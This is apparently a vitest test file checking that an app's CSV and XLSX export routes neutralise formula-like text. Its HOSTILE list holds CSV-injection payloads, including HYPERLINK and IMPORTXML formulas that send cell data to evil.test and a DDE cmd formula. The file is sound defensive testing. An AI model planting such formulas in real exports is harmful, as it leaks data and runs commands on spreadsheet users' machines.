import { inflateRawSync } from 'node:zlib';
import type { TelemetrySampleInput } from '@kontrol/contracts';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { post } from '../../modules/billing/ledger.service.js';
import { buildSmartDevice } from '../builders.js';
import { buildOrg, type Org } from './fixtures.js';
import { useAppWithRoutes } from './route-table.js';

/**
 * docs/security.md "Exports": text a person typed (device names, ledger descriptions, notification
 * texts) or a device sent (program, error code), stored in the database and downloaded through
 * every export route, never becomes a formula. CSV: a cell starting with `=`, `+`, `-`, `@`, tab
 * or CR gets a leading apostrophe (lib/csv.ts). XLSX: every text cell is an inline string (no
 * `<f>` element anywhere), its value exactly the stored text, and text that starts like a formula
 * has a quote-prefixed style so a spreadsheet keeps it text even when the cell is edited.
 */

const ctx = useAppWithRoutes();

/** Text that a spreadsheet would run, each a classic of "CSV injection" (OWASP). */
const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.test/?d="&A1,"Open")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("http://evil.test/?",A1),"//a")',
] as const;
const FORMULA_START = /^[=+\-@\t\r]/;

/** What the CSV must hold for `text`: the text, behind an apostrophe when it starts like a formula. */
const csvCell = (text: string) => (FORMULA_START.test(text) ? `'${text}` : text);

/** The export routes, by the route table's keys; a new `…/csv` or `…/excel` route fails until added. */
const EXPORT_ROUTES = [
  'GET /api/telemetry/csv',
  'GET /api/users/balance_log/csv',
  'GET /api/notifications/excel',
];

/** The files of a ZIP (an .xlsx), read from its central directory. */
function unzip(zip: Buffer): Map<string, string> {
  const end = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  if (end < 0) throw new Error('not a zip');
  const files = new Map<string, string>();
  let at = zip.readUInt32LE(end + 16);
  for (let count = zip.readUInt16LE(end + 10); count > 0; count -= 1) {
    const method = zip.readUInt16LE(at + 10);
    const size = zip.readUInt32LE(at + 20);
    const nameLength = zip.readUInt16LE(at + 28);
    const skip = nameLength + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
    const local = zip.readUInt32LE(at + 42);
    const name = zip.toString('utf8', at + 46, at + 46 + nameLength);
    const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    const data = zip.subarray(start, start + size);
    files.set(name, (method === 0 ? data : inflateRawSync(data)).toString('utf8'));
    at += 46 + skip;
  }
  return files;
}

async function download(org: Org, url: string, locale = 'en') {
  const response = await ctx.app.inject({
    method: 'GET',
    url,
    headers: { cookie: org.admin.cookie, 'accept-language': locale },
  });
  expect(response.statusCode, response.body.slice(0, 300)).toBe(200);
  // A download, never a page: the browser saves it and sniffs nothing.
  expect(String(response.headers['content-disposition'])).toMatch(/^attachment; /);
  expect(response.headers['x-content-type-options']).toBe('nosniff');
  return response;
}

/** Every cell of a CSV (BOM, header row and all), by column name. */
function csvRows(bytes: Buffer): Record<string, string>[] {
  return parse<Record<string, string>>(bytes, { bom: true, columns: true, relax_column_count: false });
}

let org: Org;
/** A smart device per hostile text, named with it. */
let devices: { id: number; name: string; credential: string }[];

beforeAll(async () => {
  org = await buildOrg(ctx.app, ctx.db, 'Exports');
  devices = [];
  for (const name of HOSTILE) {
    const device = await buildSmartDevice(ctx.db, org.id);
    await ctx.db.updateTable('devices').set({ name }).where('id', '=', device.id).execute();
    devices.push({ id: device.id, name, credential: device.credential });
  }
});

describe('exports', () => {
  it('the table names every export route of the app', () => {
    const exports = ctx.routes
      .filter((route) => /\/(csv|excel|xlsx)$/.test(route.url))
      .map((route) => route.key)
      .sort();
    expect(exports).toEqual([...EXPORT_ROUTES].sort());
  });

  it('GET /api/telemetry/csv: hostile device names, programs and error codes get the apostrophe', async () => {
    const start = Date.now() - 3_600_000;
    for (const [index, device] of devices.entries()) {
      const text = HOSTILE[index] ?? '';
      const sample: TelemetrySampleInput = {
        ts: start + index * 1000,
        current: 1,
        temperature: 180,
        door_open: false,
        state: 'cooking',
        program: text.slice(0, 64),
        error_code: text.slice(0, 32),
      };
      const ingested = await ctx.app.inject({
        method: 'POST',
        url: '/api/ingest/v1/telemetry',
        headers: { authorization: `Bearer ${device.credential}`, 'content-type': 'application/json' },
        payload: JSON.stringify([sample]),
      });
      expect(ingested.statusCode, ingested.body).toBe(202);
    }
    const ids = devices.map((device) => device.id).join(',');
    const response = await download(
      org,
      `/api/telemetry/csv?devices=${ids}&start=${start}&finish=${Date.now()}`,
    );
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    const rows = csvRows(response.rawPayload);
    expect(rows).toHaveLength(HOSTILE.length);
    for (const [index, text] of HOSTILE.entries()) {
      const row = rows.find((r) => r['Device ID'] === String(devices[index]?.id));
      expect(row, text).toBeDefined();
      expect(row?.Device).toBe(csvCell(text));
      expect(row?.Program).toBe(csvCell(text.slice(0, 64)));
      expect(row?.['Error code']).toBe(csvCell(text.slice(0, 32)));
    }
    // No text cell of the file starts like a formula (numbers, such as a negative reading, are numbers).
    for (const row of rows)
      for (const column of ['Device', 'Time', 'UTC offset', 'State', 'Program', 'Error code'])
        expect(row[column] ?? '', `${column} of ${JSON.stringify(row)}`).not.toMatch(FORMULA_START);
  });

  it('GET /api/users/balance_log/csv: hostile ledger descriptions get the apostrophe', async () => {
    for (const text of HOSTILE) {
      await post(ctx.db, {
        organisationId: org.id,
        kind: 'correction',
        amount: -100,
        description: text,
        reference: null,
      });
    }
    for (const locale of ['ru', 'en']) {
      const response = await download(org, '/api/users/balance_log/csv', locale);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      // Excel's dialect of the reader's language: `;` and decimal commas in Russian.
      const rows: string[][] = parse(response.rawPayload, {
        bom: true,
        delimiter: locale === 'ru' ? ';' : ',',
      });
      const [header, ...entries] = rows;
      expect(header).toHaveLength(6);
      const descriptions = entries.map((entry) => entry[2]);
      for (const text of HOSTILE) expect(descriptions, JSON.stringify(text)).toContain(csvCell(text));
      for (const entry of entries) {
        // Date, kind, description and the test-money mark are text; amount and balance are numbers
        // (a charge is negative).
        for (const cell of [...entry.slice(0, 3), ...entry.slice(5)]) expect(cell).not.toMatch(FORMULA_START);
        for (const cell of entry.slice(3, 5))
          expect(cell).toMatch(locale === 'ru' ? /^-?\d+(,\d+)?$/ : /^-?\d+(\.\d+)?$/);
      }
    }
  });

  it('GET /api/notifications/excel: hostile titles, texts and device names are exact inline strings', async () => {
    const now = Date.now();
    for (const [index, text] of HOSTILE.entries()) {
      await ctx.db
        .insertInto('notifications')
        .values({
          organisation_id: org.id,
          user_id: org.adminId,
          kind: 'manual',
          severity: 'warning',
          title: text,
          body: `${text} body`,
          device_id: devices[index]?.id ?? null,
          event_id: null,
          created_at: new Date(now - (HOSTILE.length - index) * 1000).toISOString(),
          read_at: null,
        })
        .execute();
    }
    const response = await download(org, '/api/notifications/excel?tz=UTC');
    expect(response.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );

    // Read back as a spreadsheet program would: values exactly as stored, none a formula.
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    if (!sheet) throw new Error('no sheet');
    const byTitle = new Map<string, ExcelJS.Row>();
    sheet.eachRow((row, number) => {
      const title = row.getCell(5).value;
      if (number > 1 && typeof title === 'string') byTitle.set(title, row);
    });
    expect(byTitle.size).toBe(HOSTILE.length);
    for (const [index, text] of HOSTILE.entries()) {
      // XML turns a bare CR in text into LF; the writer sends `&#13;` so the CR survives.
      const row = byTitle.get(text);
      expect(row, JSON.stringify(text)).toBeDefined();
      const cells = [
        [row?.getCell(5), text],
        [row?.getCell(6), `${text} body`],
        [row?.getCell(7), devices[index]?.name],
      ] as const;
      for (const [cell, expected] of cells) {
        expect(cell?.type, JSON.stringify(expected)).toBe(ExcelJS.ValueType.String);
        expect(cell?.formula).toBeUndefined();
        expect(cell?.value).toBe(expected);
      }
    }

    // And in the file itself: no formula element, the hostile cells inline strings with a style
    // whose `quotePrefix` keeps them text when someone edits them.
    const files = unzip(response.rawPayload);
    const sheetXml = files.get('xl/worksheets/sheet1.xml') ?? '';
    expect(sheetXml).toContain('<sheetData>');
    expect(sheetXml).not.toMatch(/<f[\s>/]/);
    const styles = files.get('xl/styles.xml') ?? '';
    const xfs = [
      ...(/<cellXfs[^>]*>(.*?)<\/cellXfs>/s.exec(styles)?.[1] ?? '').matchAll(/<xf [^>]*\/>/g),
    ].map((match) => match[0]);
    const cellsOf = (xml: string) =>
      [...xml.matchAll(/<c r="([A-Z]+\d+)"([^>]*)>(.*?)<\/c>/gs)].map((match) => ({
        ref: match[1] ?? '',
        attributes: match[2] ?? '',
        content: match[3] ?? '',
      }));
    // Columns E–G (title, text, device) below the header: every one of them hostile here.
    const textCells = cellsOf(sheetXml).filter(
      (cell) => /^[EFG]\d+$/.test(cell.ref) && !/^[EFG]1$/.test(cell.ref),
    );
    expect(textCells.length).toBeGreaterThanOrEqual(HOSTILE.length * 3);
    for (const cell of textCells) {
      expect(cell.attributes, cell.ref).toContain('t="inlineStr"');
      expect(cell.content, cell.ref).toMatch(/^<is><t xml:space="preserve">/);
      const style = Number(/ s="(\d+)"/.exec(cell.attributes)?.[1] ?? 0);
      expect(xfs[style], `${cell.ref} style ${style}`).toContain('quotePrefix="1"');
    }
  });
});
